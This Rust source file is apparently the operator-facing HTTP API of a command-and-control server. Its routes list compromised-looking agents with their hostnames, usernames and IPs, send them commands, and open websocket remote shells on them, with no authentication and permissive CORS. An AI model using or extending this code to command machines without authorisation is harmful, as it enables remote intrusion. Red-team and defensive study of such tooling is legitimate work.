//! Operator-facing HTTP surface: agent listing, one-shot
//! command issuance, and the websocket upgrade into the Shell Bridge.

use crate::metrics::Metrics;
use crate::registry::{IssueError, Registry};
use crate::shell;
use axum::{
    extract::{ws::WebSocketUpgrade, Path, State},
    http::StatusCode,
    response::{IntoResponse, Json},
    routing::{get, post},
    Router,
};
use serde::{Deserialize, Serialize};
use std::{sync::Arc, time::Duration};
use tower_http::cors::CorsLayer;

const HTTP_COMMAND_TIMEOUT: Duration = Duration::from_secs(10);

#[derive(Clone)]
pub struct AppState {
    pub registry: Arc<Registry>,
    pub metrics: Arc<Metrics>,
}

pub fn router(state: AppState) -> Router {
    Router::new()
        .route("/api/agents", get(list_agents))
        .route("/api/agents/:agent_id/command", post(issue_command))
        .route("/api/agents/:agent_id/shell", get(shell_upgrade))
        .layer(CorsLayer::permissive())
        .with_state(state)
}

#[derive(Serialize)]
struct AgentView {
    agent_id: String,
    id: String,
    hostname: String,
    os: String,
    ip_address: String,
    architecture: String,
    arch: String,
    username: String,
    registration_time: i64,
}

impl From<api::gen::c2::v1::AgentInfo> for AgentView {
    fn from(info: api::gen::c2::v1::AgentInfo) -> Self {
        Self {
            agent_id: info.agent_id.clone(),
            id: info.agent_id,
            hostname: info.hostname,
            os: info.os,
            ip_address: info.ip_address,
            architecture: info.architecture.clone(),
            arch: info.architecture,
            username: info.username,
            registration_time: info.registration_time,
        }
    }
}

async fn list_agents(State(state): State<AppState>) -> impl IntoResponse {
    state.metrics.http_requests_total.inc();
    let agents: Vec<AgentView> = state.registry.list().into_iter().map(Into::into).collect();
    Json(agents)
}

#[derive(Deserialize)]
struct CommandRequest {
    #[serde(rename = "type")]
    command_type: String,
    command: String,
}

#[derive(Serialize)]
struct CommandReply {
    success: bool,
    result: String,
    error: String,
}

async fn issue_command(
    State(state): State<AppState>,
    Path(agent_id): Path<String>,
    Json(req): Json<CommandRequest>,
) -> impl IntoResponse {
    state.metrics.http_requests_total.inc();

    if state.registry.get(&agent_id).is_none() {
        return (
            StatusCode::NOT_FOUND,
            Json(CommandReply {
                success: false,
                result: String::new(),
                error: "agent not registered".into(),
            }),
        );
    }

    match state
        .registry
        .issue_command(&agent_id, &req.command_type, req.command.into_bytes(), HTTP_COMMAND_TIMEOUT)
        .await
    {
        Ok(resp) if resp.error_message.starts_with("Command timed out") => {
            state.metrics.command_timeouts_total.inc();
            (
                StatusCode::GATEWAY_TIMEOUT,
                Json(CommandReply {
                    success: false,
                    result: String::new(),
                    error: resp.error_message,
                }),
            )
        }
        Ok(resp) => {
            state.metrics.commands_dispatched_total.inc();
            (
                StatusCode::OK,
                Json(CommandReply {
                    success: resp.success,
                    result: String::from_utf8_lossy(&resp.result).into_owned(),
                    error: resp.error_message,
                }),
            )
        }
        Err(IssueError::NotRegistered(_)) => (
            StatusCode::NOT_FOUND,
            Json(CommandReply {
                success: false,
                result: String::new(),
                error: "agent not registered".into(),
            }),
        ),
        Err(IssueError::QueueFull(id)) => {
            state.metrics.queue_full_total.inc();
            (
                StatusCode::SERVICE_UNAVAILABLE,
                Json(CommandReply {
                    success: false,
                    result: String::new(),
                    error: format!("command queue full for agent {id}"),
                }),
            )
        }
    }
}

async fn shell_upgrade(
    State(state): State<AppState>,
    Path(agent_id): Path<String>,
    ws: WebSocketUpgrade,
) -> impl IntoResponse {
    state.metrics.http_requests_total.inc();

    if state.registry.get(&agent_id).is_none() {
        return (StatusCode::NOT_FOUND, "agent not registered").into_response();
    }

    ws.on_upgrade(move |socket| shell::run_session(socket, state.registry, agent_id))
}
